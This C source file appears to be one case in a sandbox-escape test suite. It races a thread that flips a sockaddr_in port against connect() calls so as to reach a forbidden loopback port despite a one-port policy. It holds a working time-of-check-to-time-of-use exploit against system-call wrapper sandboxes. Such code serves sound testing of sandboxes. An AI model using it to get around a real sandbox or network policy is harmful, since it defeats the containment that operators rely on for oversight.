/* e0103-toctou-connect-inet - argument TOCTOU on connect(): a thread flips
 * the port of a sockaddr_in between an allowed and a forbidden port.
 *
 * Attack: under a policy that allows connect to 127.0.0.1 on one port
 * only, one thread flips sin_port between that port and a forbidden one
 * (a listener outside the jail that counts connections) while another
 * thread connects to whatever the sockaddr names.
 * Source: Watson 2007 (sockaddr races on connect in system call wrappers).
 * Usage: e0103-toctou-connect-inet ALLOWED-PORT FORBIDDEN-PORT */
#include <errno.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <arpa/inet.h>

#include "escape.h"

static struct sockaddr_in sa;
static unsigned short allowed, forbidden;
static volatile int stop;

static void *flipper(void *arg)
{
	(void)arg;
	volatile unsigned short *port = &sa.sin_port;
	while (!stop) {
		*port = forbidden;
		*port = allowed;
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 3, "e0103-toctou-connect-inet ALLOWED-PORT FORBIDDEN-PORT");
	allowed = htons((unsigned short)esc_number(argv[1]));
	forbidden = htons((unsigned short)esc_number(argv[2]));
	esc_inet_loopback(&sa, (unsigned)esc_number(argv[1]));
	pthread_t t;
	if (pthread_create(&t, NULL, flipper, NULL) != 0)
		esc_die("pthread_create");
	struct esc_race r;
	long connected = 0, refused = 0;
	int last = 0;
	bool reached = false;
	esc_race_init(&r);
	while (!reached && esc_race_go(&r)) {
		int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
		if (s < 0) {
			refused++;
			last = errno;
			continue;
		}
		if (connect(s, (struct sockaddr *)&sa, sizeof sa) == 0) {
			struct sockaddr_in peer;
			socklen_t pl = sizeof peer;
			connected++;
			if (getpeername(s, (struct sockaddr *)&peer, &pl) == 0 &&
			    peer.sin_port == forbidden)
				reached = true;
		} else {
			refused++;
			last = errno;
		}
		close(s);
	}
	printf("connect race: %ld tries, %ld connected, %ld refused%s%s; peer was the forbidden port: %s\n",
	       r.tries, connected, refused, refused ? ", last " : "",
	       refused ? esc_errno_name(last) : "", reached ? "yes" : "no");
	stop = 1;
	pthread_join(t, NULL);
	return 0;
}
